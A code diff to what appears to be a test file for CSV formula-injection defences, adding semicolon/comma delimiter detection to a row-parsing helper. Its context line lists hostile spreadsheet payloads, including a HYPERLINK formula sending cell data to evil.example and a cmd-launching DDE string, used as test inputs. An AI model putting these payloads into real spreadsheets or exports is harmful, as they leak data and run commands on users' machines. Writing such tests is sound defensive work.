@@ -18,7 +18,10 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', "+cmd|' /C calc'
 
 
 def rows_of(text: str) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    """Rows of a CSV the box wrote: `;` for the pages' downloads (Excel in Belgium), `,` else."""
+    text = text.lstrip("\ufeff")
+    delimiter = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
+    return list(csv.reader(io.StringIO(text), delimiter=delimiter))
 
 
 @pytest.mark.parametrize("text", HOSTILE)
